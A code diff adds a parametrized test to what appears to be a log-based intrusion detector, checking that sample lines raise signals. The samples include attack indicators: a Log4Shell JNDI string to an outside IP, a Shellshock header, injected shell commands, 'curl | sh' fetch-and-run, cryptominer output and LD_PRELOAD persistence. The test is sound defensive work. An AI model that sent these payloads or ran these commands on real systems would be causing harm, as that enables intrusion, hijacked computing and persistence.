@@ -348,3 +348,39 @@ def test_a_replay_lists_the_verdicts_that_would_change() -> None:
     assert [(one.before.verdict, one.after.verdict) for one in found.flips] == [("suspicious", "benign")]
     assert "1 of 1" in found.said()
     assert flips([record], Tuning()).flips == ()
+
+
+@pytest.mark.parametrize(
+    ("line", "sign"),
+    [
+        ("GET /r.php?c=which%20gcc", "L1"),
+        ("POST /r.php;c=WHOAMI&d=1", "L1"),
+        ("agent ${JNDI:ldap://203.0.113.66/a}", "L1"),
+        ("agent () { :; }; id", "L1"),
+        ("PHP Warning: system(): Cannot execute", "L1"),
+        ("at java.lang.Runtime.getRuntime().exec(x)", "L1"),
+        ("curl -s http://203.0.113.66/x.c", "L2"),
+        ("base64 -d x", "L2"),
+        ("curl -s x | sh", "L2"),
+        ("apt-get -y install gcc", "W6"),
+        ("apk --no-cache add build-base", "W6"),
+        ("Setting up gcc", "W6"),
+        ("Installing g++ (12.2)", "W6"),
+        ("STRATUM+TCP to it", "L3"),
+        ("XMRig 6.21", "L3"),
+        ("net new job from it", "L3"),
+        ("cpu accepted (1/0)", "L3"),
+        ("RandomX init", "L3"),
+        ("Hashrate 1 kH", "L3"),
+        ("\u017ftratum+tcp to it", "L3"),
+        ("wrote /etc/ld.so.preload", "L3"),
+        ("LD_PRELOAD=/tmp/x.so", "L3"),
+        ("InsMod x", "L4"),
+        ("modprobe x", "L4"),
+        ("loading out-of-tree module", "L4"),
+        ("module verification failed", "L4"),
+    ],
+)
+def test_a_line_speaks_whatever_its_case_and_wherever_its_words_stand(line: str, sign: str) -> None:
+    assert sign in {signal.id for signal in recorded(evidence(log=(f"09:41 {line} ok",))).signals}
+    assert sign not in {signal.id for signal in recorded(evidence(log=("09:41 nothing to tell",))).signals}
